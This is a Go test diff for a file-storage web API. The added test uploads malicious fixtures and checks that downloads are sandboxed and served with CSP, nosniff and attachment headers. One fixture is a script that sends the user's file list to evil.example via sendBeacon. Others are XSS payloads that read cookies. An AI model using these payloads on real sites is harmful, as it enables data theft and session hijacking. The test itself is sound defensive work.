@@ -142,3 +142,56 @@ func TestFilesAPI(t *testing.T) {
 		t.Fatalf("after refused requests: %s", raw)
 	}
 }
+
+// TestStoredContentRunsNothing (issue 24 item 6): a file's bytes come from
+// the UI's origin, so an uploaded page, image or script must not run there
+// with the viewer's session when opened. Every response carrying stored bytes
+// keeps its recorded type unsniffed, forbids scripts and loads, and is a
+// download.
+func TestStoredContentRunsNothing(t *testing.T) {
+	ts := server(t)
+	for _, c := range []struct{ name, content string }{
+		{"steal.js", "fetch('/api/v1/files').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))"},
+		{"page.html", "<script>alert(document.cookie)</script>"},
+		{"drawing.svg", `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`},
+		{"notes.txt", "<html><script>alert(1)</script></html>"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			body, ct := multipartBody(t, c.name, []byte(c.content), nil)
+			status, _, raw := do(t, ts.base, call{"POST", "/workspaces/" + ts.wsA + "/files", ts.alice, ct, body})
+			var f files.Item
+			if status != 201 || json.Unmarshal(raw, &f) != nil {
+				t.Fatalf("upload: %d %s", status, raw)
+			}
+			for _, path := range []string{"/files/" + f.ID + "/content", "/files/" + f.ID + "/versions/1/content"} {
+				req, _ := http.NewRequest("GET", ts.base+path, nil)
+				req.Header.Set("Authorization", "Bearer "+ts.alice)
+				resp, err := http.DefaultClient.Do(req)
+				if err != nil {
+					t.Fatal(err)
+				}
+				got, _ := io.ReadAll(resp.Body)
+				resp.Body.Close()
+				h := resp.Header
+				if resp.StatusCode != 200 || string(got) != c.content {
+					t.Fatalf("GET %s: %d %q", path, resp.StatusCode, got)
+				}
+				csp := h.Get("Content-Security-Policy")
+				for _, want := range []string{"default-src 'none'", "sandbox"} {
+					if !strings.Contains(csp, want) {
+						t.Errorf("GET %s: Content-Security-Policy %q lacks %q", path, csp, want)
+					}
+				}
+				if h.Get("X-Content-Type-Options") != "nosniff" {
+					t.Errorf("GET %s: X-Content-Type-Options %q", path, h.Get("X-Content-Type-Options"))
+				}
+				if d := h.Get("Content-Disposition"); !strings.HasPrefix(d, "attachment") {
+					t.Errorf("GET %s: Content-Disposition %q, want a download", path, d)
+				}
+				if h.Get("Content-Type") != f.MIMEType {
+					t.Errorf("GET %s: Content-Type %q, want the recorded %q", path, h.Get("Content-Type"), f.MIMEType)
+				}
+			}
+		})
+	}
+}
